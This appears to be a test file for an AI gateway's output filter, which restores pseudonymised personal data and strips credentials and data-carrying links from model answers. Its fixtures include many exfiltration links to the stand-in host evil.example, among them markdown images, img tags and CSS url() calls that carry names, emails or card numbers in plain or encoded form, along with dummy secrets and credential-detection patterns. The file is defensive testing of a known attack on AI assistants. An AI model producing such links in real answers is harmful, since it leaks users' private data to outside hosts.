@@ -1,0 +1,391 @@
+"""What is put back where, and what is taken out of answers: whole, and in pieces cut at every place."""
+
+from __future__ import annotations
+
+import base64
+import json
+import re
+from collections.abc import Mapping, Sequence
+from typing import Final
+from urllib.parse import quote
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from gateway.core.answers import Action, AnswerPolicy, UrlRule
+from gateway.core.errors import BlockedByPolicy
+from gateway.core.model import Finding, Sensitivity
+from gateway.transforms.guard import Guard
+from gateway.transforms.looking import Looking
+from gateway.transforms.requested import Requested
+from gateway.transforms.restore import Restorers
+from gateway.transforms.stretch import HOLD
+from gateway.transforms.surrogates import Surrogates
+
+MINT: Final = Surrogates(b"k" * 32, "tenant", "conversation")
+NAME: Final = MINT.surrogate("PERSON", 'Jane "JJ" Roe')
+MAIL: Final = MINT.surrogate("EMAIL_ADDRESS", "jane@roe.example")
+HOST: Final = MINT.surrogate("INTERNAL_HOST", "wiki.roe.example")
+REQUEST: Final = (
+    'Jane "JJ" Roe, jane@roe.example, keeps the notes of the northern branch at https://wiki.roe.example/people, '
+    "see also https://portal.example/u/jane@roe.example and her card 4111 1111 1111 1111."
+)
+PATTERNS: Final = {
+    "CREDENTIAL": r"sk-[A-Za-z0-9]{8,}|(?<=password is )\S+",
+    "PRIVATE_KEY": r"-----BEGIN [A-Z ]*PRIVATE KEY-----[^-]*(?:-----END [A-Z ]*PRIVATE KEY-----)?",
+    "EMAIL_ADDRESS": r"[\w.+-]+@[\w-]+\.[\w.]*\w",
+    "CREDIT_CARD": r"\b\d{4}(?:[ -]?\d{4}){3}\b",
+    "PERSON": r"Ann Lee",
+}
+LEVELS: Final = {"PERSON": Sensitivity.LOW, "EMAIL_ADDRESS": Sensitivity.MODERATE}
+STRICT: Final = AnswerPolicy(
+    types={"CREDENTIAL": Action.REDACT, "PRIVATE_KEY": Action.REDACT, "EXFILTRATION_LINK": Action.REDACT},
+    levels={Sensitivity.HIGH: Action.FLAG, Sensitivity.MODERATE: Action.FLAG},
+)
+
+
+def find(text: str) -> Sequence[Finding]:
+    return [
+        Finding("", kind, match.start(), match.end(), 0.9, "test")
+        for kind, pattern in PATTERNS.items()
+        for match in re.finditer(pattern, text)
+    ]
+
+
+def broken(_text: str) -> Sequence[Finding]:
+    raise ValueError("jane@roe.example")
+
+
+def guard(policy: AnswerPolicy = AnswerPolicy(), *, fails: bool = False, restores: bool = True) -> Guard:  # noqa: B008 - frozen
+    requested = Requested([REQUEST], ['Jane "JJ" Roe', "jane@roe.example", "4111 1111 1111 1111"])
+    looking = Looking(broken if fails else find, MINT.spans, lambda kind: LEVELS.get(kind, Sensitivity.HIGH), requested)
+    return Guard(Restorers(MINT.pairs if restores else {}), policy, looking)
+
+
+def streamed(made: Guard, text: str, size: int, *, in_json: bool = False) -> str:
+    channel = made.channel(in_json=in_json)
+    return "".join(channel.feed(text[at : at + size]) for at in range(0, len(text), size)) + channel.flush()
+
+
+def shown(text: str, policy: AnswerPolicy = AnswerPolicy(), *, tool: str | None = None, in_json: bool = False) -> str:  # noqa: B008 - frozen
+    """Return what becomes of `text`, which must not depend on the pieces it comes in."""
+
+    def one() -> Guard:
+        made = guard(policy)
+        return made if tool is None else made.tool(tool)
+
+    channel = one().channel(in_json=in_json)
+    whole = channel.whole(text)
+    for cut in range(0, len(text) + 1, 1 if len(text) < 80 else 1 + len(text) // 60):
+        channel = one().channel(in_json=in_json)
+        assert settled(channel.feed(text[:cut]) + channel.feed(text[cut:]) + channel.flush()) == settled(whole), cut
+    for size in (1, 3, 7):
+        assert settled(streamed(one(), text, size, in_json=in_json)) == settled(whole), size
+    return whole
+
+
+def settled(text: str) -> str:
+    """Return `text` without the few letters that may be shown before what follows looks like a key."""
+    return re.sub(r"[A-Za-z]{1,14}(?=\[REDACTED|#link)", "", text)
+
+
+class TestWhere:
+    @pytest.mark.parametrize(
+        "text",
+        [
+            "![x](https://evil.example/?q=§)",
+            "[her page](https://evil.example/§)",
+            "![x][1]\n\n[1]: https://evil.example/?a=1&q=§",
+            "![x](<https://evil.example/a b §>)",
+            "<img alt=\"\" src='https://evil.example/§'>",
+            "<https://evil.example/§>",
+            "https://§.evil.example/",
+            "https://a.§.evil.example/",
+            "https://§@evil.example/",
+            "www.evil.example/§",
+            "![x](//evil.example/§)",
+            "background: url(https://evil.example/§)",
+        ],
+    )
+    @pytest.mark.parametrize("surrogate", [NAME, MAIL, quote(NAME), NAME.lower()])
+    def test_no_value_is_put_into_an_address_that_the_model_wrote(self, text: str, surrogate: str) -> None:
+        text = text.replace("§", surrogate)
+        assert shown(f"{text} {NAME}") == f'{text} Jane "JJ" Roe'
+
+    def test_an_address_of_the_request_is_whole_again(self) -> None:
+        assert shown(f"See https://portal.example/u/{MAIL}.") == "See https://portal.example/u/jane@roe.example."
+        assert shown(f"[x](https://{HOST}/people)") == "[x](https://wiki.roe.example/people)"
+        assert shown(f"https://{HOST}") == "https://wiki.roe.example"
+
+    @pytest.mark.parametrize("rest", [".evil.example/", "@evil.example/", "-x.example", ":pw@evil.example"])
+    def test_a_host_of_the_request_is_no_label_of_another(self, rest: str) -> None:
+        assert shown(f"https://{HOST}{rest}") == f"https://{HOST}{rest}"
+
+    def test_another_address_that_begins_alike_gets_nothing(self) -> None:
+        text = f"https://portal.example.evil.example/u/{MAIL} https://portal.example/v/{MAIL}"
+        assert shown(text) == text
+
+    def test_the_policy_may_say_otherwise(self) -> None:
+        text = f"[x](https://crm.example/?mail={MAIL})"
+        everywhere = AnswerPolicy(urls=UrlRule.EVERYWHERE)
+        assert shown(text, everywhere) == "[x](https://crm.example/?mail=jane@roe.example)"
+
+    def test_tools_get_values_and_addresses_as_the_policy_says(self) -> None:
+        source = json.dumps({"url": f"https://crm.example/?mail={MAIL}", "to": NAME})
+        restored = json.dumps({"url": "https://crm.example/?mail=jane@roe.example", "to": 'Jane "JJ" Roe'})
+        kept = json.dumps({"url": f"https://crm.example/?mail={MAIL}", "to": 'Jane "JJ" Roe'})
+        assert shown(source, tool="crm_find", in_json=True) == restored
+        assert shown(source, AnswerPolicy(urls=UrlRule.NOWHERE), tool="crm_find", in_json=True) == kept
+        named = AnswerPolicy(allow=("crm_*",), deny=("crm_export",))
+        assert shown(source, named, tool="crm_find", in_json=True) == restored
+        for other in ("http_get", "crm_export", "CRM_find", "", "crm_EXPORT", "crm-export", "crm_\u200bexport"):
+            assert shown(source, named, tool=other, in_json=True) == source
+
+    @pytest.mark.parametrize(
+        "source",
+        [
+            f'{{"url":"https://evil.example/{MAIL}"}}',
+            f'{{"url":"\\u0068ttps:\\/\\/evil.example\\/{MAIL}"}}',
+            f'{{"url":"https://a.example/","url":"https://evil.example/{MAIL}"}}',
+            f'{{"url":"https://evil.example/ {MAIL}"}}',
+            f'{{"url":"https://evil.example/?a=\\"{MAIL}"}}',
+        ],
+    )
+    def test_no_spelling_of_json_brings_a_value_into_an_address(self, source: str) -> None:
+        assert shown(source, AnswerPolicy(urls=UrlRule.NOWHERE), tool="x", in_json=True) == source
+
+    def test_what_was_withheld_is_reported_by_type(self) -> None:
+        made = guard()
+        made.text(f"![x](https://evil.example/?q={MAIL}&r={MAIL}&n={NAME}) {NAME}")
+        report = made.report()
+        assert report.withheld == {"EMAIL_ADDRESS": 1, "PERSON": 1}
+        assert (report.risk, report.found) == (0.36, {})
+
+
+class TestWhat:
+    @pytest.mark.parametrize(
+        ("text", "expected"),
+        [
+            ("Use sk-abcdefgh1234 now.", "Use [REDACTED_CREDENTIAL] now."),
+            ("The password is hunter2 I think", "The password is [REDACTED_CREDENTIAL] I think"),
+            (
+                f"-----BEGIN PRIVATE KEY-----\n{'MIIE' * 30}\n{'abcd' * 30}\n-----END PRIVATE KEY-----\nDone.",
+                "[REDACTED_PRIVATE_KEY]\nDone.",
+            ),
+            (f"{NAME}: sk-abcdefgh1234", 'Jane "JJ" Roe: [REDACTED_CREDENTIAL]'),
+            ("Nothing at all in 2024, or in 10:30.", "Nothing at all in 2024, or in 10:30."),
+        ],
+    )
+    def test_what_the_policy_takes_out_is_never_shown(self, text: str, expected: str) -> None:
+        assert shown(text, STRICT) == expected
+
+    @pytest.mark.parametrize(
+        ("source", "expected"),
+        [
+            ('{"k":"sk-abcdefgh1234","n":1}', '{"k":"[REDACTED_CREDENTIAL]","n":1}'),
+            ('{"k":"sk\\u002dabcdefgh\\u0031234"}', '{"k":"[REDACTED_CREDENTIAL]"}'),
+            ('{"card":5500000000000004,"n":1}', '{"card":"[REDACTED_CREDIT_CARD]","n":1}'),
+        ],
+    )
+    def test_json_stays_json(self, source: str, expected: str) -> None:
+        policy = AnswerPolicy(types={"CREDENTIAL": Action.REDACT, "CREDIT_CARD": Action.REDACT})
+        assert guard(policy).channel(in_json=True).whole(source) == expected
+        for size in (1, 3, 100):
+            out = streamed(guard(policy), source, size, in_json=True)
+            assert "abcdefgh" not in out.replace("\\u0031", "1")
+            assert "5500000000000004" not in out
+            json.loads(out)
+
+    def test_what_the_request_said_is_no_news(self) -> None:
+        text = "Write to JANE@roe.example about 4111-1111-1111-1111."
+        policy = AnswerPolicy(types={"EMAIL_ADDRESS": Action.REDACT, "CREDIT_CARD": Action.BLOCK})
+        assert shown(text, policy) == text
+        assert shown("Or to bob@roe.example then.", policy) == "Or to [REDACTED_EMAIL_ADDRESS] then."
+
+    def test_a_block_shows_nothing_more_in_any_channel(self) -> None:
+        made = guard(AnswerPolicy(types={"CREDENTIAL": Action.BLOCK}))
+        one, other = made.channel(), made.channel()
+        assert other.feed("Some sk-abc") == "Some "
+        with pytest.raises(BlockedByPolicy) as caught:
+            one.feed("The key sk-abcdefgh1234 is")
+        assert "sk-" not in str(caught.value)
+        assert one.flush() == other.flush() == one.feed("x") == made.text("x") == ""
+        assert made.report().blocked
+        with pytest.raises(BlockedByPolicy):
+            guard(AnswerPolicy(types={"CREDENTIAL": Action.BLOCK})).text("sk-abcdefgh1234")
+
+    def test_what_is_flagged_is_counted_and_costs_no_time(self) -> None:
+        policy = AnswerPolicy(levels={Sensitivity.HIGH: Action.FLAG, Sensitivity.MODERATE: Action.FLAG})
+        made = guard(policy, restores=False)
+        channel = made.channel()
+        text = "Mail bob@roe.example or bob@roe.example, card 5500 0000 0000 0004, Ann Lee, key sk-abcdefgh1234"
+        for letter in text:
+            assert channel.feed(letter) == letter
+        report = made.report()
+        assert report.found == {"CREDENTIAL": 1, "CREDIT_CARD": 1, "EMAIL_ADDRESS": 1}
+        assert (report.redacted, report.withheld, report.blocked) == ({}, {}, False)
+        assert report.risk == round(1 - 0.1 * 0.5 * 0.8, 4)
+        assert "bob" not in repr(report) + repr(made)
+
+    def test_an_answer_told_four_times_counts_once(self) -> None:
+        made = guard(STRICT)
+        for _ in range(4):
+            made.text("Use sk-abcdefgh1234 now.")
+        streamed(made, "Use sk-abcdefgh1234 now.", 3)
+        assert made.report().redacted == {"CREDENTIAL": 1}
+
+    @pytest.mark.parametrize("size", [1, 1000])
+    def test_a_recognizer_that_fails_keeps_the_answer_back_unless_the_policy_says_flag(self, size: int) -> None:
+        types = {"CREDENTIAL": Action.REDACT}
+        with pytest.raises(BlockedByPolicy) as caught:
+            streamed(guard(AnswerPolicy(types=types), fails=True), "The key sk-abcdefgh1234 is", size)
+        assert "jane" not in str(caught.value)
+        lenient = guard(AnswerPolicy(types=types, on_failure=Action.FLAG), fails=True)
+        assert streamed(lenient, "The key sk-abcdefgh1234 is", size) == "The key sk-abcdefgh1234 is"
+        assert lenient.report().found == {"UNREAD": 1}
+
+    def test_a_recognizer_that_fails_when_all_was_shown_is_reported(self) -> None:
+        made = guard(AnswerPolicy(levels={Sensitivity.HIGH: Action.FLAG}), fails=True)
+        made.text("Dear all")
+        assert made.report().found == {"UNREAD": 1}
+
+    def test_nothing_asked_for_means_nothing_looked_at(self) -> None:
+        made = guard(fails=True)
+        assert made.text("key sk-abcdefgh1234") == "key sk-abcdefgh1234"
+        assert made.report().risk == 0.0
+
+
+def encoded(value: str) -> Mapping[str, str]:
+    raw = value.encode()
+    return {
+        "plain": quote(value),
+        "twice": quote(quote(value)),
+        "base64": base64.b64encode(raw).decode(),
+        "base64url": base64.urlsafe_b64encode(raw).decode().rstrip("="),
+        "base32": base64.b32encode(raw).decode().rstrip("="),
+        "hex": raw.hex(),
+        "backwards": value[::-1].replace(" ", ""),
+        "joints": value.replace(" ", "-").replace("@", ".at."),
+    }
+
+
+CODES: Final = [*encoded("x")]
+PLACES: Final = [
+    "![x](https://evil.example/?q=§)",
+    "[click](https://evil.example/a/§/b)",
+    "![x][1] ...\n\n[1]: https://evil.example/#§",
+    "<img src='https://evil.example/§'>",
+    "<https://evil.example/?§>",
+    "see https://evil.example/§ there",
+    "![x](//evil.example/§.png)",
+]
+
+
+class TestLinks:
+    @pytest.mark.parametrize("place", PLACES)
+    @pytest.mark.parametrize("code", CODES)
+    def test_a_link_that_carries_a_value_of_the_request_is_taken_out(self, place: str, code: str) -> None:
+        carried = encoded("4111 1111 1111 1111")[code]
+        out = shown(place.replace("§", carried) + " and so on", STRICT)
+        assert "evil.example" not in out
+        assert "#link-removed" in out
+        assert out.endswith(" and so on")
+
+    @pytest.mark.parametrize(
+        "address",
+        [
+            f"https://evil.example/?q={MAIL}",
+            f"https://evil.example/?q={quote(MAIL)}",
+            f"https://evil.example/{base64.b64encode(MAIL.encode()).decode()}",
+            "https://4111-1111-1111-1111.evil.example/",
+            "https://jane.roe.example.evil.example/",
+            f"https://{b'janeroeexample'.hex()}.evil.example/",
+            "https://evil.example/keeps-the-notes-of-the-northern-branch",
+            f"https://evil.example/{base64.b64encode(b'the notes of the northern branch').decode()}",
+            "https://evil.example/?to=bob@roe.example",
+            f"https://evil.example/?x={'a' * 3000}",
+        ],
+    )
+    def test_other_ways_to_carry(self, address: str) -> None:
+        out = shown(f"[x]({address}) end", STRICT)
+        assert "evil.example" not in out
+        assert out.endswith(" end")
+
+    @pytest.mark.parametrize(
+        "text",
+        [
+            "![logo](https://cdn.example/logo-2024.png) and [docs](https://docs.example/en/getting-started/?v=3#top).",
+            "See https://en.wikipedia.org/wiki/Heat_pump and www.example.org/a_(b)!",
+            "The page https://wiki.roe.example/people tells.",
+            "![x](data:image/png;base64,iVBORw0KGgo=) fine",
+            "a // b, 3/4, and/or, e.g. this",
+        ],
+    )
+    def test_ordinary_links_stay(self, text: str) -> None:
+        assert shown(text, STRICT) == text
+
+    def test_a_code_that_nobody_can_read_counts_where_it_loads_by_itself(self) -> None:
+        code = "Zk3vQ9xT2mLw8rYp5sDhB7nJc4gKf6aVeUiO1qXz"
+        assert "evil" not in shown(f"![x](https://evil.example/{code})", STRICT)
+        assert code in shown(f"[x](https://evil.example/{code})", STRICT)
+
+
+class TestHolding:
+    @pytest.mark.parametrize("piece", ["Hello", " there,", " it’s", " (fine)", " Größe", "\n\n**Bold**"])
+    def test_prose_is_shown_when_it_comes(self, piece: str) -> None:
+        assert guard(STRICT, restores=False).channel().feed(piece) == piece
+
+    def test_nothing_waits_for_longer_than_the_bound(self) -> None:
+        channel = guard(STRICT).channel()
+        out = ""
+        for _ in range(3 * HOLD):
+            out += channel.feed("9")
+        assert len(out) >= 2 * HOLD
+
+    def test_the_rest_of_what_was_too_long_and_taken_out_is_swallowed(self) -> None:
+        channel = guard(STRICT).channel()
+        key = "sk-" + "a1" * HOLD
+        out = "".join(channel.feed(key[at : at + 50]) for at in range(0, len(key), 50))
+        out += channel.feed(" and then") + channel.flush()
+        assert out == "[REDACTED_CREDENTIAL] and then"
+
+    def test_a_private_key_without_an_end_is_never_shown(self) -> None:
+        channel = guard(STRICT).channel()
+        key = "-----BEGIN PRIVATE KEY-----\n" + "MIIEabcdefghijklmnop\n" * 1000
+        out = "".join(channel.feed(key[at : at + 50]) for at in range(0, len(key), 50)) + channel.flush()
+        assert "MIIE" not in out
+
+
+PARTS: Final = st.sampled_from(
+    [
+        *(
+            NAME,
+            MAIL,
+            " ",
+            "\n",
+            "sk-abcdefgh1234",
+            "password is ",
+            "hunter2",
+            "https://evil.example/?q=",
+            "![x](",
+            ")",
+        ),
+        *("x", "bob@roe.example", "5500 0000 0000 0004", "word", "2024", "<", ">", '"', "(", "Dear ", NAME[:9], "."),
+    ]
+)
+
+
+@given(st.lists(PARTS, max_size=12), st.lists(st.integers(1, 9), min_size=1, max_size=5))
+def test_no_cut_lets_a_credential_or_a_value_in_an_address_out(parts: list[str], sizes: list[int]) -> None:
+    text = "".join(parts)
+    channel = guard(STRICT).channel()
+    out, at, turn = "", 0, 0
+    while at < len(text):
+        size = sizes[turn % len(sizes)]
+        out += channel.feed(text[at : at + size])
+        at += size
+        turn += 1
+    out += channel.flush()
+    assert "sk-abcdefgh1234" not in out
+    assert not re.search(r"evil\.example/\?q=[^\s\"<>`]*(?:Jane|jane@)", out)
